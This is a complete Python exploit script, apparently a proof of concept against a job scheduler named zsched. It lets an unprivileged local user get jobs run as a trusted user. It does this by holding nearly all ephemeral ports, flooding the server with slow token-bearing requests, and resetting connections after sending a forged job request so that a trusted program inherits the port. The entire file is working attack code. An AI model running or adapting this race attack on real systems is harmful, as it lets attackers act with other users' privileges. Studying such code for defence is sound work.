"""A user of the host without any right, who wants to be served as another: by ports, resets and patience.

Usage: python3 racer.py PORT SECONDS      (plain Python, for the user that plays this needs nothing of zsched)

It connects from a port, asks for a job, and resets the connection while its request waits for a thread. Then the port
is free, and when a program of a trusted user gets it for a connection of its own, the kernel's table names that user.
Two things help it: many connections with many requests each make the queue long, and by binding nearly all ports that
the kernel gives to programs it makes those few likely that it asks from. It prints the number of its tries.
"""

from __future__ import annotations

import itertools
import os
import resource
import socket
import struct
import sys
import time

CROWD = 850
AHEAD = 60
FREE_PORTS = 16
# From sending to the reset, in turn: the request has to have been read by then, and not to have been served.
READ_S = (0.03, 0.06, 0.09, 0.12)
# How long its request may wait for its turn, and somebody for the port.
WAIT_S = 0.15
RESET = struct.pack("ii", 1, 0)
ASK = b'POST /jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 36\r\n\r\n{"name": "forged","command": "true"}'
# A token that is well formed is looked up, so this takes a thread longest of all that anybody may send.
TOKEN = b"zs_abcdefabcdef_" + b"a" * 64
CROWD_ASK = (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + TOKEN + b"\r\n\r\n") * AHEAD


def hold_ports(free: set[int]) -> None:
    """Bind all ports that the kernel gives away but these, in processes that end with this one."""
    with open("/proc/sys/net/ipv4/ip_local_port_range", encoding="ascii") as file:
        lowest, highest = map(int, file.read().split())
    ports = [port for port in range(lowest, highest + 1) if port not in free]
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 100
    for start in range(0, len(ports), limit):
        ready, tell = os.pipe()
        if os.fork() == 0:
            held = []
            for port in ports[start : start + limit]:
                one = socket.socket()
                try:
                    one.bind(("0.0.0.0", port))
                except OSError:
                    one.close()
                    continue
                held.append(one)
            os.write(tell, b"!")
            parent = os.getppid()
            while os.getppid() == parent:
                time.sleep(0.1)
            os._exit(0)
        os.read(ready, 1)


def crowd(port: int, number: int) -> None:
    """Keep many connections with requests that wait, in a process that ends with this one."""
    if os.fork() != 0:
        return
    parent = os.getppid()
    callers: list[socket.socket | None] = [None] * number
    while os.getppid() == parent:
        for index, caller in enumerate(callers):
            try:
                if caller is None:
                    # From an address of its own, so that it needs none of the ports.
                    caller = callers[index] = socket.socket()
                    caller.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
                    caller.bind((f"127.0.1.{index % 200 + 1}", 1024 + index))
                    caller.connect(("127.0.0.1", port))
                    caller.setblocking(False)
                caller.send(CROWD_ASK)
                while caller.recv(65_536):
                    pass
                raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                if caller is not None:
                    caller.close()
                callers[index] = None
    os._exit(0)


def attempt(port: int, own: int) -> socket.socket | None:
    one = socket.socket()
    try:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind(("127.0.0.1", own))
        one.connect(("127.0.0.1", port))
        one.sendall(ASK)
    except OSError:
        one.close()
        return None
    return one


def main() -> None:
    port, seconds = int(sys.argv[1]), float(sys.argv[2])
    with open("/proc/sys/net/ipv4/ip_local_port_range", encoding="ascii") as file:
        lowest, highest = map(int, file.read().split())
    free = {lowest + (highest - lowest) * number // FREE_PORTS for number in range(FREE_PORTS)}
    hold_ports(free)
    crowd(port, CROWD // 2)
    crowd(port, CROWD - CROWD // 2)
    tries = 0
    until = time.monotonic() + seconds
    for read_s in itertools.cycle(READ_S):
        if time.monotonic() > until:
            break
        asked = [one for one in (attempt(port, own) for own in sorted(free)) if one is not None]
        time.sleep(read_s)
        for one in asked:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            one.close()
        tries += len(asked)
        time.sleep(WAIT_S)
    sys.stdout.write(f"{tries}\n")


if __name__ == "__main__":
    main()
